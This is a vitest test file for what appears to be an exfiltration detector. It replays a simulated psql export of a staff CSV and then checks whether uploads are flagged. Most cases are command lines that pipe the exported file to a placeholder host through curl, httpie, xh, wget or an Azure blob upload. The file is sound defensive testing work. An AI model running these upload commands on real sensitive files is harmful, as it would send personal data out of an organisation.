import { describe, expect, it } from 'vitest';
import { replayed } from '../../support/replay.ts';
import { PROGRAMS, type Program, Story } from '../../support/story.ts';

const STAFF = '/Users/maria/Documents/staff.csv';
const HTTP: Program = { path: '/opt/homebrew/bin/http' };
const AZ: Program = { path: '/opt/homebrew/bin/az' };
const WGET: Program = { path: '/opt/homebrew/bin/wget', signingId: 'wget' };

/** psql exports the staff; a minute later a shell opens a file and becomes the program of the line. */
function story(line: string, program: Program, read = STAFF, flags = 1): Story {
  const s = new Story().host();
  const shell = s.shell();
  const psql = s.run(shell, { ...PROGRAMS.psql, args: ['psql', 'crm'] });
  s.wait(3).write(psql, STAFF).exit(psql);
  const child = s.wait(60).fork(shell);
  s.open(child, read, flags);
  s.exec(child, { ...program, args: line.split(' ') });
  return s;
}

const CURL = 'curl -T - https://files.example.org/in';
const SENT = {
  stage: 'upload',
  evidence: 'piped-to-uploader',
  link: 'lineage',
  files: [STAFF],
  destination: 'files.example.org',
};

describe('an uploader whose standard input a shell redirected', () => {
  it.each<[string, Program]>([
    [CURL, PROGRAMS.curl],
    ['curl -T . https://files.example.org/in', PROGRAMS.curl],
    ['curl -d @- https://files.example.org/in', PROGRAMS.curl],
    ['curl --data-binary @- https://files.example.org/in', PROGRAMS.curl],
    ['curl --json @/dev/stdin https://files.example.org/in', PROGRAMS.curl],
    ['curl -F file=@-;filename=x.csv https://files.example.org/in', PROGRAMS.curl],
    ['http POST https://files.example.org/in', HTTP],
    ['http files.example.org/in', HTTP],
    ['https -v PUT files.example.org/in X-Key:1', { path: '/opt/homebrew/bin/https' }],
    ['xh post https://files.example.org/in', { path: '/opt/homebrew/bin/xh', signingId: 'xh' }],
    ['wget --post-file=/dev/stdin https://files.example.org/in', WGET],
  ])('sends the export that the shell opened for it: %s', (line, program) => {
    expect(replayed(story(line, program)).last).toMatchObject([SENT]);
  });

  it('sends it by az as the data of a blob', () => {
    const line = 'az storage blob upload --account-name acme -c in -n x --data @-';
    expect(replayed(story(line, AZ)).last).toMatchObject([
      { ...SENT, service: 'azure-storage', destination: 'acme.blob.core.windows.net' },
    ]);
  });

  it.each<[string, Program]>([
    ['http --ignore-stdin POST https://files.example.org/in', HTTP],
    ['http -I GET https://files.example.org/in', HTTP],
    ['http POST http://localhost:8000/in', HTTP],
    ['http --version', HTTP],
    ['az storage blob upload --account-name acme -c in -n x --data @', AZ],
    ['az storage blob list --account-name acme -c in', AZ],
    ['curl -d - https://files.example.org/in', PROGRAMS.curl],
    ['curl https://files.example.org/in', PROGRAMS.curl],
    ['wget https://files.example.org/in', WGET],
  ])('sends nothing that it does not read: %s', (line, program) => {
    expect(replayed(story(line, program)).last).toMatchObject([{ stage: 'export' }]);
  });

  it.each<[string, Program]>([
    [CURL, PROGRAMS.curl],
    ['http POST https://files.example.org/in', HTTP],
  ])('sends nothing of the chain when another file was opened: %s', (line, program) => {
    const menu = '/Users/maria/Documents/menu.csv';
    expect(replayed(story(line, program, menu)).last).toMatchObject([
      { stage: 'export', evidence: null },
    ]);
  });

  it('sends nothing of the chain when the file was opened for writing', () => {
    expect(replayed(story(CURL, PROGRAMS.curl, STAFF, 2)).last).toMatchObject([
      { stage: 'export', evidence: null },
    ]);
  });
});

describe('a web client inside a session', () => {
  it('that nothing is fed to is no upload', () => {
    const s = new Story().host();
    const psql = s.run(s.shell(), { ...PROGRAMS.psql, args: ['psql', 'crm'] });
    s.run(psql, { ...HTTP, args: ['http', 'https://api.example.org/rates'] });
    expect(replayed(s).last).toMatchObject([{ stage: 'tool' }]);
  });

  it('that reads a pipe is one', () => {
    const s = new Story().host();
    const psql = s.run(s.shell(), { ...PROGRAMS.psql, args: ['psql', 'crm'] });
    const line = 'http POST https://files.example.org/in';
    s.run(psql, { ...HTTP, args: line.split(' '), stdin: 77 });
    expect(replayed(s).last).toMatchObject([{ stage: 'upload', evidence: 'piped-to-uploader' }]);
  });
});
